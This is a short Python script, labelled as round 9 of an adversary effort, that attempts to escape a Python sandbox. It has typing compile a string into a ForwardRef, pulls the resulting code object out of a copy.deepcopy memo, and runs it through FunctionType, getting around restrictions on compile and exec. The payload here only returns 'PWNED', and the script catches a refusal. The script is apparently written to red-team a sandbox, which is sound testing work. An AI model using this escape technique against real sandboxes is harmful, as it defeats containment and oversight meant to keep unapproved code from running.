# adversary round 9: Tries: typing compiles our runtime string as a ForwardRef (library's own compile( call, allowed); copy.deepcopy(fr, memo) leaves the slots-state dict with __forward_code__ in our memo -> code object in hand; then FunctionType(code, {}) to run it
import copy
import typing

src = "[1 for _ in ()] or 'PWN' + 'ED'"
fr = typing.get_args(typing.List[src])[0]
memo = {}
copy.deepcopy(fr, memo)
codes = []
for v in memo.values():
    if type(v) is dict:
        for x in v.values():
            if type(x).__name__ == "code":
                codes.append(x)
print("got code objects:", codes)
F = type(lambda: 0)
try:
    f = F(codes[0], {})
    print("made function")
    print(f())
except Exception as e:
    print("refused:", type(e).__name__, e)
